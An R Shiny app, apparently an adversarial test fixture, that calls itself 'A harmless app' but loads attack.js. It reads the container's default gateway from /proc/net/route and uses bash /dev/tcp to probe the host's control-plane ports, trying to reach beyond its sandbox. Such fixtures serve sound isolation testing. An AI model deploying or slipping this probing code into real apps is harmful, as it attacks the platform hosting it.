# An app that wants to be released: it was told the link of its own reviewer, the worst that could happen, and tries
# everything that a page and R can do with it.
library(shiny)

known <- Sys.getenv("KNOWN", "{}")

page <- tagList(
  tags$head(
    tags$script(id = "known", type = "application/json", HTML(known)),
    tags$script(src = "attack.js")
  ),
  h1("A harmless app"),
  textInput("name", "Name"),
  textOutput("reached")
)

# From inside: the edge and the control plane's own ports on the machine around the container.
reaches <- function(host, port) {
  code <- sprintf("exec 3<>/dev/tcp/%s/%s", host, port)
  status <- suppressWarnings(system2("timeout", c("2", "bash", "-c", shQuote(code)), stdout = FALSE, stderr = FALSE))
  if (status == 0L) paste0(host, ":", port)
}

gateway <- function() {
  routes <- read.table("/proc/net/route", header = TRUE, colClasses = "character")
  bytes <- rev(substring(routes$Gateway[routes$Destination == "00000000"][[1]], seq(1, 7, 2), seq(2, 8, 2)))
  paste(strtoi(bytes, 16L), collapse = ".")
}

server <- function(input, output, session) {
  output$reached <- renderText({
    ports <- unlist(jsonlite::fromJSON(known)$ports)
    found <- unlist(lapply(ports, function(port) reaches(gateway(), port)))
    paste("reached:", if (length(found)) paste(found, collapse = " ") else "nothing")
  })
}

shinyApp(page, server)
